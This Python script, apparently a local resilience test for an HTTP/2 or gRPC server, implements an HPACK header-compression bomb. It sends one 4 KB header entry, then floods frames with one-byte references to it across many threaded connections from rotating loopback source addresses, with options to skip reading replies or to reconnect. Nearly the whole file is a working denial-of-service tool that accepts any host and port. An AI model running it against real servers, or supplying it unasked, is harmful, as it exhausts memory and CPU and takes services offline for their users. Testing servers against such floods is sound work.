"""HPACK bombs: calls with compressed headers in which each byte refers to an entry of 4 KB that was sent once.

The program is `header_bombs.py HOST:PORT CONNECTIONS SECONDS ADDRESSES WAY [CA]`. The connections come from 127.0.0.1
to 127.0.0.ADDRESSES. WAY: "unread" does not read the answers, "reads" reads them, "leaves" reconnects after `FEW`
frames. With CA (a PEM file), TLS is used.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import select
import socket
import ssl
import sys
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from support.raw_grpc import PUSH, frame, headers, literal, preface

FRAME_BYTES = 16_384
_HEADERS, _END_HEADERS = 1, 4
_STORED_ENTRY = b"\x40" + literal("x") + literal("v" * 4_000)
_REFERENCE = b"\xbe"
_PAUSE = 0.02  # seconds between two connections of one thread
FEW, _MANY = 3, 512  # frames


def _frames(count: int) -> bytes:
    blocks = [headers(PUSH) + (b"" if number else _STORED_ENTRY) for number in range(count)]
    padded = [block + _REFERENCE * (FRAME_BYTES - len(block)) for block in blocks]
    return preface() + b"".join(
        frame(_HEADERS, _END_HEADERS, 2 * number + 1, block) for number, block in enumerate(padded)
    )


class Bombs:
    """An attack with several threads."""

    def __init__(
        self, address: str, seconds: float, addresses: int, way: str, tls: ssl.SSLContext | None = None
    ) -> None:
        host, _, port = address.rpartition(":")
        self._target = host, int(port)
        self._until = time.monotonic() + seconds
        self._sources = itertools.cycle(f"127.0.0.{number + 1}" for number in range(addresses))
        self._reads = way == "reads"
        self._leaves = way == "leaves"
        self._all = _frames(FEW if self._leaves else _MANY)
        self._tls = tls

    def run(self, connections: int) -> None:
        """Attack with this many simultaneous connections until the time is over."""
        threads = [threading.Thread(target=self._work) for _ in range(connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _work(self) -> None:
        while time.monotonic() < self._until:
            with contextlib.suppress(OSError):
                self._attack()
            time.sleep(_PAUSE)

    def _attack(self) -> None:
        with contextlib.ExitStack() as closing:
            source = next(self._sources), 0
            sock = closing.enter_context(socket.create_connection(self._target, 2, source_address=source))
            if self._tls is not None:
                sock = closing.enter_context(self._tls.wrap_socket(sock, server_hostname=self._target[0]))
            sock.setblocking(False)
            self._send(sock, self._all)
            select.select([sock], [], [], max(0.0, self._until - time.monotonic()))

    def _send(self, sock: socket.socket, data: bytes) -> None:
        rest = memoryview(data)
        while rest and time.monotonic() < self._until:
            select.select([sock] if self._reads else [], [sock], [], 0.1)
            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                rest = rest[sock.send(rest) :]
            if self._reads:
                with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
                    if not sock.recv(2**16):
                        raise ConnectionResetError


if __name__ == "__main__":
    os.nice(10)  # an attacker on another machine would not use the processors of honest clients
    target, connections, seconds, addresses, way, *ca = sys.argv[1:]
    context = ssl.create_default_context(cafile=ca[0]) if ca else None
    if context is not None:
        context.set_alpn_protocols(["h2"])
    Bombs(target, float(seconds), int(addresses), way, context).run(int(connections))
